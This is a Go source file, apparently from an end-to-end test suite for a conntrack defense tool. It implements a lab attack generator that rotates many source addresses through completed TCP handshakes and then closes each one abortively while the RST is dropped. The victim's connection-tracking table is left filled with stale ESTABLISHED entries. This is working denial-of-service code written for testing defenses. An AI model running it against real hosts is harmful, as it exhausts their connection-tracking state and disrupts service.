package gen

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"time"

	"github.com/ctguard/ctguard/test/e2e/victim"
	"github.com/ctguard/ctguard/test/e2e/wire"
)

// BotConfig is a silent-established-bot attack: N sources, P connections
// each, A sources active at a time; a source retires after P connections and
// the next one takes its slot. Each connection completes the handshake and
// is then closed abortively (SO_LINGER 0), so the bot keeps no socket; the
// attacker namespace's nftables rule drops the RST, so the victim never
// learns of the close and its conntrack entry stays ESTABLISHED for days.
type BotConfig struct {
	Sources   Sources
	N         int     // sources
	PerSource int     // connections per source
	Active    int     // sources active at a time
	Rate      float64 // connections per second, all sources together
	Workers   int     // connects in flight at most; default 16384
	Dst       netip.AddrPort
	Duration  time.Duration // hard stop
	// Timeout bounds one connect; default 500 ms (the lab's RTT is well under
	// a millisecond). Connects whose SYN is dropped (a ban, a meter) wait
	// for it, so Workers is large: real bots are independent of each other,
	// and a dropped bot must not slow the fresh ones (with 256 workers the
	// attack fell to ~500 attempts/s as soon as a defense dropped SYNs).
	Timeout time.Duration
	Name    string
}

// Validate checks the bounds.
func (c *BotConfig) Validate() error {
	if c.N < 1 || c.PerSource < 1 || c.Active < 1 || c.Rate <= 0 || c.Duration <= 0 {
		return fmt.Errorf("bots: need N, per-source, active, rate and duration > 0 (have %d, %d, %d, %g, %s)",
			c.N, c.PerSource, c.Active, c.Rate, c.Duration)
	}
	if c.N*c.PerSource > 5_000_000 {
		return fmt.Errorf("bots: %d connections is more than the lab's bound of 5M", c.N*c.PerSource)
	}
	if _, err := c.Sources.Addr(c.N - 1); err != nil {
		return fmt.Errorf("bots: %w", err)
	}
	if !c.Dst.IsValid() {
		return errors.New("bots: no destination")
	}
	return nil
}

// rotation hands out source addresses: A slots, each used P times, then
// refilled with the next unused source until N are used up.
type rotation struct {
	mu       sync.Mutex
	cfg      *BotConfig
	slots    []slot
	next     int // next unused source index
	k        int
	finished int
}

type slot struct {
	addr netip.Addr
	used int
	dead bool
}

func newRotation(cfg *BotConfig) (*rotation, error) {
	r := &rotation{cfg: cfg}
	a := min(cfg.Active, cfg.N)
	for i := 0; i < a; i++ {
		addr, err := cfg.Sources.Addr(r.next)
		if err != nil {
			return nil, err
		}
		r.next++
		r.slots = append(r.slots, slot{addr: addr})
	}
	return r, nil
}

// take returns the next source to use, or false when all N*P are handed out.
func (r *rotation) take() (netip.Addr, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for tries := 0; tries < len(r.slots); tries++ {
		i := r.k % len(r.slots)
		r.k++
		s := &r.slots[i]
		if s.dead {
			continue
		}
		addr := s.addr
		s.used++
		if s.used >= r.cfg.PerSource {
			if r.next < r.cfg.N {
				na, err := r.cfg.Sources.Addr(r.next)
				r.next++
				if err == nil {
					*s = slot{addr: na}
				} else {
					s.dead = true
				}
			} else {
				s.dead = true
			}
		}
		return addr, true
	}
	return netip.Addr{}, false
}

// Bots runs the attack until all connections are made or Duration passes.
func Bots(ctx context.Context, cfg BotConfig, w *wire.Writer) error {
	if err := cfg.Validate(); err != nil {
		return err
	}
	if cfg.Workers == 0 {
		cfg.Workers = 16384
	}
	if _, err := victim.RaiseNoFile(uint64(cfg.Workers) + 1024); err != nil {
		return fmt.Errorf("bots: %d connects in flight: %w", cfg.Workers, err)
	}
	if cfg.Timeout == 0 {
		cfg.Timeout = 500 * time.Millisecond
	}
	if cfg.Name == "" {
		cfg.Name = "bots"
	}
	rot, err := newRotation(&cfg)
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	c := &counters{name: cfg.Name}
	done := make(chan struct{})
	go c.report(ctx, w, done)
	tokens := pacer(ctx, cfg.Rate, int64(cfg.N*cfg.PerSource))
	dst := cfg.Dst.String()
	var wg sync.WaitGroup
	for i := 0; i < cfg.Workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range tokens {
				src, ok := rot.take()
				if !ok {
					return
				}
				conn, err := dialer(src, cfg.Timeout).DialContext(ctx, network(src, "tcp"), dst)
				if err != nil {
					if ctx.Err() != nil {
						return
					}
					c.failed.Add(1)
					continue
				}
				c.sent.Add(1)
				// Abortive close: the RST is dropped by the attacker's
				// ruleset, and no socket lingers here.
				_ = conn.(*net.TCPConn).SetLinger(0)
				conn.Close()
			}
		}()
	}
	wg.Wait()
	close(done)
	return w.Write(wire.Record{Kind: "progress", Progress: c.snapshot(true)})
}
